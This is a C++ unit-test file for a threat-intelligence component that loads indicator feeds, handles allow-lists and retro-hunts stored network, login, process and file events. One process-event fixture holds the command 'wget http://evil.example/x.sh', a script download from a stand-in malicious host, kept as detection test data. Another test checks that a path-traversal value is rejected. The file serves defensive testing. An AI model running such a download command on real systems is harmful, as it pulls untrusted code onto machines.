#include "intelligence_keeper.h"

#include <deque>
#include <filesystem>
#include <fstream>
#include <map>
#include <thread>

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <stdlib.h>

#include "base/core/file.h"
#include "pipeline/tables.h"
#include "retro_hunt.h"
#include "workspace/tables.h"

namespace picket::server {
namespace {

constexpr Timestamp kNow{1'795'262'400'000'000};  // 2026-11-21T12:00:00Z
const state::Actor kAlice{"alice", "192.0.2.1"};

/// A real state, journal and workspace in a folder of its own.
class KeeperTest : public testing::Test {
 protected:
  void SetUp() override {
    std::string pattern = testing::TempDir() + "picket_keeper_XXXXXX";
    folder_ = ::mkdtemp(pattern.data());
    database_ = *state::Database::open(folder_ + "/state.sqlite");
    intelligence_.emplace(*database_);
    devices_.emplace(*database_);
    journal::EmbeddedOptions options;
    options.directory = folder_ + "/messages";
    options.reserve_bytes = 0;
    messages_ = std::move(journal::open_embedded(std::move(options))->journal);
    workspace::DuckdbOptions duckdb;
    duckdb.directory = folder_ + "/segments";
    duckdb.background = false;
    workspace_ = *workspace::open_duckdb_workspace(std::move(duckdb), schema_, clock_);
  }
  void TearDown() override {
    keeper_.reset();
    workspace_.reset();
    messages_.reset();
    std::filesystem::remove_all(folder_);
  }
  void start() {
    auto opened = IntelligenceKeeper::open({.state = *intelligence_,
                                            .devices = *devices_,
                                            .messages = *messages_,
                                            .workspace = *workspace_,
                                            .clock = clock_,
                                            .directory = folder_ + "/intelligence",
                                            .secrets = folder_ + "/secrets",
                                            .hub = "hub"});
    ASSERT_TRUE(opened) << describe(opened.error());
    keeper_ = *std::move(opened);
    keeper_->start();
  }
  template <class Condition>
  void until(Condition&& condition) {
    for (int i = 0; i < 6'000 && !condition(); ++i) std::this_thread::sleep_for(std::chrono::milliseconds(10));
    ASSERT_TRUE(condition()) << "not within a minute";
  }
  void until_quiet() {
    until([&] { return !keeper_->set().building; });
  }
  void feed(const std::string& name, const std::string& settings) {
    ASSERT_TRUE(intelligence_->put_feed(name, settings, kAlice, kNow));
  }
  std::string file(const std::string& name, const std::string& content) {
    std::ofstream(folder_ + "/" + name) << content;
    return folder_ + "/" + name;
  }
  void own(const std::string& value, bool allowed = false) {
    const auto what = *intelligence::parse_observable(value);
    ASSERT_TRUE(intelligence_->put_indicator(
        {.kind = std::string(to_string(what.kind)), .value = to_text(what), .allowed = allowed, .added = kNow},
        kAlice));
    keeper_->changed();
  }
  struct Read {
    std::string name, version, body;
  };
  std::vector<Read> records() {
    std::vector<Read> out;
    const auto reader = *messages_->reader(messages_->begin());
    for (;;) {
      const auto batch = reader->read(1U << 20);
      if (!batch || batch->records.empty()) return out;
      for (const auto& record : batch->records) {
        out.push_back({std::string(*record.property("name")), std::string(*record.property("version")),
                       std::string(as_text(record.body))});
      }
    }
  }
  /// A row of the workspace; other columns are null.
  void store(std::string_view table, std::map<std::string, std::string> cells, Timestamp time,
             const std::string& device = "device-1") {
    const auto index = *schema_.find_table(table);
    cells["DeviceId"] = device;
    cells["Hub"] = "hub";
    cells["IoTRawEventId"] = "event-" + std::to_string(sequence_ + 1);
    std::vector<workspace::Cell> row;
    for (const workspace::Column& column : schema_.tables[index].columns) {
      const auto found = cells.find(column.name);
      if (column.name == "TimeGenerated") {
        row.push_back(workspace::Cell::timestamp(time));
      } else {
        row.push_back(found == cells.end() ? workspace::Cell::null() : workspace::Cell::text(found->second));
      }
    }
    const workspace::Row one{index, {++sequence_, 0, 0}, kNow, row};
    const auto done = workspace_->append(workspace::kMessagesStream, sequence_, {&one, 1});
    ASSERT_TRUE(done) << describe(done.error());
  }

  std::string folder_;
  ManualClock clock_{kNow};
  workspace::Schema schema_ = pipeline::make_workspace_schema();
  std::unique_ptr<state::Database> database_;
  std::optional<state::Intelligence> intelligence_;
  std::optional<state::Devices> devices_;
  std::unique_ptr<journal::Journal> messages_;
  std::unique_ptr<workspace::Workspace> workspace_;
  std::unique_ptr<IntelligenceKeeper> keeper_;
  std::uint64_t sequence_ = 0;
};

TEST_F(KeeperTest, AFeedThatIsDueBecomesASetThatIsARecord) {
  feed("bots", R"({"source":")" + file("list", "192.0.2.66\nevil.example # Mirai\n10.1.2.3\n") +
                   R"(","intervalMinutes":60,"licence":"CC0"})");
  start();
  until([&] { return keeper_->set().indicators == 2; });
  const auto found = keeper_->look_up("www.evil.example");
  EXPECT_EQ(found.indicator, "evil.example");
  ASSERT_EQ(found.sources.size(), 1u);
  EXPECT_EQ(found.sources[0].feed, "bots");
  EXPECT_EQ(found.sources[0].licence, "CC0");
  EXPECT_EQ(found.sources[0].confidence, 70);
  EXPECT_EQ(keeper_->look_up("10.1.2.3").warning, "Networks that are nobody's on the Internet");
  EXPECT_EQ(keeper_->look_up("10.1.2.3").indicator, "");
  until_quiet();
  const auto all = records();
  ASSERT_FALSE(all.empty());
  EXPECT_EQ(all[0].name, "indicators");
  EXPECT_EQ(all[0].version, keeper_->set().version);
  EXPECT_TRUE(keeper_->opener()(all[0].version));
  EXPECT_FALSE(keeper_->opener()("../../state.sqlite"));
  const auto status = intelligence::parse_feed_status(intelligence_->find_feed("bots")->status);
  EXPECT_EQ(status.indicators, 3u);
  EXPECT_EQ(status.kept_out, 1u);
}

TEST_F(KeeperTest, TheSetInForceIsThereAfterARestartAndOldOnesStayForTheReplay) {
  start();
  own("192.0.2.1");
  until([&] { return keeper_->set().indicators == 1; });
  until_quiet();
  const std::string first = keeper_->set().version;
  clock_.advance(Duration::seconds(1));
  own("192.0.2.2");
  until([&] { return keeper_->set().indicators == 2; });
  until_quiet();
  keeper_.reset();
  start();
  EXPECT_EQ(keeper_->set().indicators, 2u);
  EXPECT_EQ(keeper_->look_up("192.0.2.2").indicator, "192.0.2.2");
  EXPECT_TRUE(keeper_->opener()(first)) << "the pipeline has not read its end yet";
  // The pipeline has come to the end: only the set in force stays.
  ASSERT_TRUE(messages_->add_consumer("pipeline"));
  ASSERT_TRUE(messages_->set_position("pipeline", messages_->end()));
  clock_.advance(Duration::seconds(1));
  own("192.0.2.3");
  until([&] { return keeper_->set().indicators == 3; });
  until_quiet();
  EXPECT_FALSE(keeper_->opener()(first));
  EXPECT_TRUE(keeper_->opener()(keeper_->set().version));
}

TEST_F(KeeperTest, WhatTheOperatorAllowsRaisesNothingWhateverFeedsSay) {
  feed("bots", R"({"source":")" + file("list", "192.0.2.66\n192.0.2.67\n") + R"(","intervalMinutes":60})");
  start();
  until([&] { return keeper_->set().indicators == 2; });
  own("192.0.2.66", true);
  until([&] { return keeper_->set().indicators == 1; });
  EXPECT_EQ(keeper_->look_up("192.0.2.66").warning, "allowed by alice");
  EXPECT_EQ(keeper_->look_up("192.0.2.67").indicator, "192.0.2.67");
}

TEST_F(KeeperTest, AWarningListFeedKeepsIndicatorsOut) {
  feed("bots", R"({"source":")" + file("list", "192.0.2.66\n198.51.100.1\n") + R"(","intervalMinutes":60})");
  feed("cdn", R"({"source":")" + file("warn.json", R"({"name":"Our CDN","type":"cidr","list":["192.0.2.0/24"]})") +
                  R"(","intervalMinutes":60,"format":"warning-list"})");
  start();
  until([&] { return keeper_->set().indicators == 1 && !keeper_->set().building; });
  EXPECT_EQ(keeper_->look_up("192.0.2.66").warning, "Our CDN");
  EXPECT_EQ(intelligence::parse_feed_status(intelligence_->find_feed("bots")->status).kept_out, 1u);
}

TEST_F(KeeperTest, UploadsTakeThePlaceOfASource) {
  feed("mine", "{}");
  start();
  const auto taken = keeper_->upload("mine", "192.0.2.5\nnonsense\n", false);
  ASSERT_TRUE(taken) << taken.error();
  EXPECT_EQ(*taken, 1u);
  until([&] { return keeper_->set().indicators == 1; });
  EXPECT_FALSE(keeper_->upload("none", "192.0.2.5\n", false));
}

TEST_F(KeeperTest, AFaultOfASourceIsToldAndHarmsNothing) {
  feed("gone", R"({"source":")" + folder_ + R"(/absent","intervalMinutes":60})");
  start();
  until([&] { return intelligence::parse_feed_status(intelligence_->find_feed("gone")->status).tried.us != 0; });
  EXPECT_THAT(intelligence::parse_feed_status(intelligence_->find_feed("gone")->status).fault,
              testing::HasSubstr("not there"));
  own("192.0.2.1");
  until([&] { return keeper_->set().indicators == 1; });
}

TEST_F(KeeperTest, WhatIsNewIsLookedForInStoredEvents) {
  store("NetworkEvents",
        {{"RawEventName", "ConnectionCreate"},
         {"RemoteAddress", "192.0.2.66"},
         {"RemotePort", "443"},
         {"Direction", "Out"}},
        kNow - Duration::days(2));
  store("NetworkEvents", {{"RawEventName", "Dns"}, {"QueryName", "a.evil.example"}}, kNow - Duration::days(20));
  store("NetworkEvents", {{"RawEventName", "Dns"}, {"QueryName", "a.evil.example"}}, kNow - Duration::days(40));
  store("NetworkEvents", {{"RawEventName", "Dns"}, {"QueryName", "good.example"}}, kNow - Duration::days(1));
  start();
  own("evil.example");
  until([&] { return records().size() >= 2; });
  until_quiet();
  clock_.advance(Duration::seconds(1));
  own("192.0.2.66");
  until([&] { return records().size() >= 4; });
  until_quiet();
  const auto all = records();
  ASSERT_EQ(all.size(), 4u);
  EXPECT_EQ(all[1].name, "retro-hunt");
  const auto first = pipeline::parse_retro_hunt(all[1].body);
  ASSERT_TRUE(first);
  ASSERT_EQ(first->hits.size(), 1u) << "what is older than 30 days is not looked at";
  EXPECT_EQ(first->hits[0].sighting.observed, "a.evil.example");
  EXPECT_EQ(first->hits[0].first, kNow - Duration::days(20));
  EXPECT_EQ(first->hits[0].evidence->raw_event_id, "event-2");
  const auto second = pipeline::parse_retro_hunt(all[3].body);
  ASSERT_TRUE(second);
  ASSERT_EQ(second->hits.size(), 1u) << "what was listed before is not told again";
  EXPECT_EQ(second->hits[0].sighting.observed, "192.0.2.66:443");
  EXPECT_EQ(second->hits[0].sighting.kind, pipeline::SightingKind::connection);
  const auto hunts = *intelligence_->hunts();
  ASSERT_EQ(hunts.size(), 2u);
  EXPECT_EQ(hunts[0].status, "done");
  EXPECT_EQ(hunts[0].hits, 1u);
}

TEST_F(KeeperTest, EveryKindOfEventIsHunted) {
  const std::string hash(64, 'a');
  store("NetworkEvents",
        {{"RawEventName", "ConnectionCreate"},
         {"RemoteAddress", "192.0.2.1"},
         {"RemotePort", "50000"},
         {"Direction", "In"}},
        kNow - Duration::hours(1));
  store("NetworkEvents",
        {{"RawEventName", "ConnectionCreate"}, {"RemoteAddress", "192.0.2.1"}, {"Direction", "In"}, {"Result", "Fail"}},
        kNow - Duration::hours(1));
  store("LoginEvents", {{"RawEventName", "Login"}, {"RemoteAddress", "192.0.2.1"}, {"Result", "Success"}},
        kNow - Duration::hours(2));
  store("LoginEvents", {{"RawEventName", "Login"}, {"RemoteAddress", "192.0.2.1"}, {"Result", "Fail"}},
        kNow - Duration::hours(2));
  store("ProcessEvents", {{"RawEventName", "ProcessCreate"}, {"CommandLine", "wget http://evil.example/x.sh"}},
        kNow - Duration::hours(3));
  store("ProcessEvents",
        {{"RawEventName", "ProcessCreate"},
         {"CommandLine", "/tmp/x"},
         {"EventDetails", R"({"CommandLine":"/tmp/x","ExecutableHash":")" + hash + R"("})"}},
        kNow - Duration::hours(4));
  store("FileEvents", {{"RawEventName", "FileSystem"}, {"Path", "/tmp/y"}, {"Hash", hash}}, kNow - Duration::hours(5));
  start();
  for (const std::string& one : {std::string("192.0.2.1"), std::string("evil.example"), hash}) own(one);
  until([&] { return keeper_->set().indicators == 3; });
  until_quiet();
  clock_.advance(Duration::seconds(1));
  const auto id = keeper_->hunt(1);
  ASSERT_TRUE(id);
  until([&] { return intelligence_->hunts()->front().status == "done"; });
  EXPECT_EQ(intelligence_->hunts()->front().note, "");
  const auto last = pipeline::parse_retro_hunt(records().back().body);
  ASSERT_TRUE(last);
  std::map<std::string, int> kinds;
  for (const auto& hit : last->hits) ++kinds[std::string(to_string(hit.sighting.kind))];
  EXPECT_EQ(kinds, (std::map<std::string, int>{{"inbound", 1}, {"login", 1}, {"url", 1}, {"file", 2}}));
}

}  // namespace
}  // namespace picket::server
